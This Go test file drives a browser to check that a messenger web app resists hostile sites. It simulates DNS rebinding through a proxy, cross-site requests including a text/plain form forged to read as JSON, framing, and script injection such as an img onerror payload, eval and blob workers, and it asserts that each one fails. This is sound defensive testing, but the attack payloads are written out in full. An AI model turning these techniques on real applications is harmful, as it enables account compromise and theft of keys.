package interop

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
)

// hostile is a web site of somebody else's. Its page is empty; what it tries is run in it by the test.
func hostile(t *testing.T) *httptest.Server {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, "<!doctype html><title>hostile</title><body>hostile")
	}))
	t.Cleanup(s.Close)
	return s
}

// resolver is how the browser reaches the hostile names: a proxy that leads them to the hostile site, until it is told to lead them to the messenger.
// To the browser that is what a name that changes its address looks like.
type resolver struct {
	site    string       // host:port of the hostile site
	rebound atomic.Value // host:port, a string; empty: not yet
}

func newResolver(t *testing.T, site *httptest.Server) (r *resolver, proxy string) {
	r = &resolver{site: strings.TrimPrefix(site.URL, "http://")}
	r.rebound.Store("")
	s := httptest.NewServer(r)
	t.Cleanup(s.Close)
	return r, s.URL
}

func (r *resolver) target() string {
	if to := r.rebound.Load().(string); to != "" {
		return to
	}
	return r.site
}

// ServeHTTP carries a request on, with the Host as it is, or a tunnel for a websocket.
func (r *resolver) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	if q.Method != http.MethodConnect {
		(&httputil.ReverseProxy{Rewrite: func(p *httputil.ProxyRequest) {
			p.SetURL(&url.URL{Scheme: "http", Host: r.target()})
			p.Out.Host = p.In.Host
		}}).ServeHTTP(w, q)
		return
	}
	to, err := net.Dial("tcp", r.target())
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadGateway)
		return
	}
	defer to.Close()
	from, _, err := w.(http.Hijacker).Hijack()
	if err != nil {
		return
	}
	defer from.Close()
	fmt.Fprint(from, "HTTP/1.1 200 OK\r\n\r\n")
	go func() {
		_, _ = io.Copy(to, from)
		_ = to.Close()
	}()
	_, _ = io.Copy(from, to)
}

// attempt is what a script of a hostile page got: a status, or that the browser let nothing through.
func attempt(b *tab, url, options string) string {
	b.t.Helper()
	return script[string](b, fmt.Sprintf(`fetch(%q, %s).then(r => r.type === 'opaque' ? 'opaque' : String(r.status), () => 'blocked')`, url, options))
}

// socket tries a websocket.
func socket(b *tab, url string) string {
	b.t.Helper()
	return script[string](b, fmt.Sprintf(`new Promise(done => { const s = new WebSocket(%q); s.onopen = () => done('open'); s.onerror = () => done('refused') })`, url))
}

const lockCall = `{"jsonrpc":"2.0","id":1,"method":"lock"}`

// unmoved wants the messenger to be as it was: open, and the key unused.
func (p *person) unmoved(address string) {
	p.w.Helper()
	var status struct{ State string }
	p.call("status", nil, &status)
	if status.State != "open" {
		p.w.Errorf("the messenger is %s: an attack reached it", status.State)
	}
	p.w.enter(address) // fails if it was used
}

// A site whose name changes its address to ours is the same origin to the browser, and gets nothing but 421.
func TestDNSRebinding(t *testing.T) {
	w := newTown(t)
	alice := w.person("alice")
	alice.register()
	names, proxy := newResolver(t, hostile(t))
	evil := newBrowser(t, "proxy-server", proxy).tab("http://evil.example:" + alice.at[strings.Index(alice.at, ":")+1:] + "/")
	if got := attempt(evil, "/rpc", `{method: 'POST'}`); got != "200" {
		t.Fatalf("the hostile site itself answers %s", got)
	}
	address := alice.address()
	_, key, _ := strings.Cut(address, "#")
	names.rebound.Store(alice.at)
	auth := fmt.Sprintf(`{method: 'POST', headers: {'Content-Type': 'application/json', Authorization: 'Bearer %s'}, body: '%s'}`, alice.token, lockCall)
	for path, options := range map[string]string{
		"/": `{}`, "/app.js": `{}`, "/rpc": auth, // even who had the token
		"/token": fmt.Sprintf(`{method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"key":"%s"}'}`, key), // or the key
		"/file":  `{method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"id":"1/0"}'}`,
	} {
		if got := attempt(evil, path, options); got != "421" {
			t.Errorf("%s answers the rebound name with %s", path, got)
		}
	}
	if got := socket(evil, "ws://evil.example:"+alice.at[strings.Index(alice.at, ":")+1:]+"/events"); got != "refused" {
		t.Errorf("the websocket is %s to the rebound name", got)
	}
	alice.unmoved(address)
}

// Other sites can make the browser send requests to us. None does anything: not those it sends unasked, not those that need permission.
func TestRequestsOfOtherSites(t *testing.T) {
	w := newTown(t)
	alice := w.person("alice")
	alice.register()
	site := hostile(t)
	_, proxy := newResolver(t, site)
	b := newBrowser(t, "proxy-server", proxy)
	for name, evil := range map[string]*tab{"another site": b.tab("http://evil.example/"), "another port": b.tab(site.URL)} {
		address := alice.address()
		_, key, _ := strings.Cut(address, "#")
		at := "http://" + alice.at
		for what, c := range map[string]struct{ path, options, want string }{
			"a plain request":            {"/rpc", fmt.Sprintf(`{method: 'POST', mode: 'no-cors', body: '%s'}`, lockCall), "opaque blocked"},
			"a plain request with a key": {"/token", fmt.Sprintf(`{method: 'POST', mode: 'no-cors', body: '{"key":"%s"}'}`, key), "opaque blocked"},
			"a request for permission":   {"/rpc", fmt.Sprintf(`{method: 'POST', headers: {'Content-Type': 'application/json', Authorization: 'Bearer %s'}, body: '%s'}`, alice.token, lockCall), "blocked"},
			"reading the page":           {"/", `{}`, "blocked"},
		} {
			if got := attempt(evil, at+c.path, c.options); !strings.Contains(c.want, got) {
				t.Errorf("%s, %s: %s, want %s", name, what, got, c.want)
			}
		}
		if got := socket(evil, "ws://"+alice.at+"/events"); got != "refused" {
			t.Errorf("%s: the websocket is %s", name, got)
		}
		// Our script, in another's page.
		if got := script[string](evil, fmt.Sprintf(`new Promise(done => { const s = document.createElement('script'); s.type = 'module'; s.src = '%s/app.js'; s.onload = () => done('loaded'); s.onerror = () => done('blocked'); document.head.append(s) })`, at)); got != "blocked" {
			t.Errorf("%s: our script is %s", name, got)
		}
		// A form, which may go anywhere, with a body that reads as JSON.
		script[bool](evil, fmt.Sprintf(`(() => { const f = document.createElement('form'); f.method = 'post'; f.enctype = 'text/plain'; f.action = '%s/token'; f.target = '_blank';
			const i = document.createElement('input'); i.name = '{"key":"%s","x":"'; i.value = '"}'; f.append(i); document.body.append(f); f.submit(); return true })()`, at, key))
		alice.unmoved(address)
	}
}

// Nobody can put our page into his own, to have it clicked: a key in the frame's address stays unused, since the page does not run there.
func TestFraming(t *testing.T) {
	w := newTown(t)
	alice := w.person("alice")
	alice.register()
	site := hostile(t)
	_, proxy := newResolver(t, site)
	b := newBrowser(t, "proxy-server", proxy)
	for name, evil := range map[string]*tab{"another site": b.tab("http://evil.example/"), "another port": b.tab(site.URL)} {
		for _, element := range []string{"iframe", "embed", "object"} {
			address := alice.address()
			script[bool](evil, fmt.Sprintf(`new Promise(done => { const f = document.createElement(%q); f.onload = f.onerror = () => setTimeout(() => done(true), 300); f[%q === 'object' ? 'data' : 'src'] = %q; document.body.append(f); setTimeout(() => done(false), 3000) })`, element, element, address))
			t.Logf("%s: %s", name, element)
			alice.unmoved(address)
		}
	}
}

// The page's own policy: no text becomes a script, nothing is sent elsewhere, whatever a mistake of ours would do.
func TestThePageRunsNothingElse(t *testing.T) {
	w := newTown(t)
	alice := w.person("alice")
	alice.register()
	site := hostile(t)
	page := newBrowser(t).tab(alice.address())
	page.wait("sessionStorage.token !== undefined")
	for what, code := range map[string]string{
		"HTML from text":       `try { document.body.innerHTML = '<img src=x onerror="window.pwned=1">'; done('did') } catch (e) { done(e.name) }`,
		"a script from text":   `try { const s = document.createElement('script'); s.text = 'window.pwned=1'; document.head.append(s); done('did') } catch (e) { done(e.name) }`,
		"eval":                 `try { eval('window.pwned=1'); done('did') } catch (e) { done(e.name) }`,
		"a function from text": `try { new Function('window.pwned=1')(); done('did') } catch (e) { done(e.name) }`,
		"a handler from text":  `try { const i = document.createElement('img'); i.setAttribute('onerror', 'window.pwned=1'); i.src = '/nothing.png'; document.body.append(i); i.addEventListener('error', () => setTimeout(() => done(window.pwned ? 'did' : 'TypeError'), 50)) } catch (e) { done(e.name) }`,
		"another site's data":  `fetch('` + site.URL + `').then(() => done('did'), e => done(e.name))`,
		"telling another site": `navigator.sendBeacon('` + site.URL + `', 'x'); const i = new Image(); i.onload = () => done('did'); i.onerror = () => done('TypeError'); i.src = '` + site.URL + `/x.png'`,
		"a worker from a blob": `try { const k = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); k.onmessage = () => done('did'); k.onerror = () => done('TypeError') } catch (e) { done(e.name) }`,
		"a frame of a blob":    `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>parent.pwned=1</scr' + 'ipt>'], {type: 'text/html'})); f.onload = () => setTimeout(() => done(window.pwned ? 'did' : 'TypeError'), 100); document.body.append(f)`,
	} {
		got := script[string](page, `new Promise(done => setTimeout(() => { `+code+` }, 0))`)
		if got == "did" {
			t.Errorf("%s works", what)
		}
		t.Logf("%s: %s", what, got)
	}
	if script[bool](page, "window.pwned !== undefined") {
		t.Error("a script of another's has run")
	}
}
